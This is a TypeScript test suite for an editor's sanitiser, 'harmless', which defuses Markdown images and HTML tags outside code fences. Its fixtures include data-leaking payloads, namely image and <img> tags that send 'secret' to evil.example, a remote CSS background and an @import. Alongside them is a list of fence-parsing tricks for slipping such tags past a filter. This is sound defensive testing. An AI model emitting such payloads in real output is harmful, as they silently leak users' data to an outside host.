import assert from 'node:assert/strict';
import { harmless } from '../../src/editor/code-prose.ts';

const picture = '![a](https://evil.example/?q=secret)';
const tag = '<img src="https://evil.example/?q=secret">';

/** Without what stands in fences, as Markdown reads it where no other block can hold one; the last may be open to the end. */
const outsideFences = (text: string): string => {
  let open = '';
  return text
    .split('\n')
    .filter((line) => {
      if (open !== '') {
        if (line.startsWith(open) && line.trim() === (open[0] ?? '').repeat(line.trim().length)) open = '';
        return false;
      }
      open = /^(?:`{3,}(?=[^`]*$)|~{3,})/.exec(line)?.[0] ?? '';
      return open === '';
    })
    .join('\n');
};

describe('An explanation as it is shown', () => {
  it('keeps blocks of code as they are', () => {
    const text = [
      'Some code.',
      '',
      '```rust',
      'let a = vec![1, 2]; // <img src="x">',
      '```',
      '',
      '~~~',
      '``` <b class="x">',
      '~~~',
    ].join('\n');
    assert.equal(harmless(text), text);
  });

  it('looks the same everywhere else', () => {
    const text = 'A `vec![1]`, an `Array<T extends U>`, $$ and a Map<string, number>: 1 < 2.';
    assert.notEqual(harmless(text), text);
    assert.equal(harmless(text).replaceAll('\u2060', ''), text);
  });

  it('loads no picture', () => {
    assert.equal(harmless(`Look: ${picture}`), 'Look: !\u2060[a](https://evil.example/?q=secret)');
    assert.equal(harmless(tag), '<\u2060img src="https://evil.example/?q=secret">');
  });

  const ways: Readonly<Record<string, string>> = {
    'after a fence that has ended': '```\ncode\n```\nTAG',
    'after a longer fence': '````\n```\n````\nTAG',
    'after a list has ended its fence': '1. x\n   ```\nTAG',
    'after a quote has ended its fence': '> ```\nTAG',
    'between two fences that are none': '   ```\n```\nTAG',
    'between backticks of which the first closes a piece of the line before': 'a ` b\nc ` TAG ` d',
    'after a backtick that is escaped': String.raw`\` TAG \``,
    'in a tag of several lines': 'a TAG',
    'behind inline code': '`code` TAG `code`',
    'behind code that ends in a backslash': '`a\\` TAG `',
    'behind a backtick in the address of a link': '[x](`)TAG`',
    'behind a backtick in the title of a link': '[x](y "`")TAG`',
    'behind a backtick in an address': '<mailto:a.`>TAG`',
    'behind a comment that holds a fence': '<!--\n```\n-->\nTAG',
    'behind a block of HTML that holds a fence': '<div>\n```\n\nTAG',
    'behind mathematics that hold a fence': '$$\n```\n$$\nTAG',
    'behind another kind of line break': '```\r```\rTAG',
  };
  for (const [name, text] of Object.entries(ways))
    for (const one of [
      picture,
      tag,
      '<div\nstyle="background:url(https://evil.example)">',
      '<style>@import "x"</style>',
    ])
      it(`loads nothing ${name}: ${one.slice(0, 8)}`, () => {
        const shown = harmless(text.replace('TAG', one));
        assert.doesNotMatch(outsideFences(shown), /!\[|<(?:img|div|style|!--|mailto)|\$\$/);
      });
});
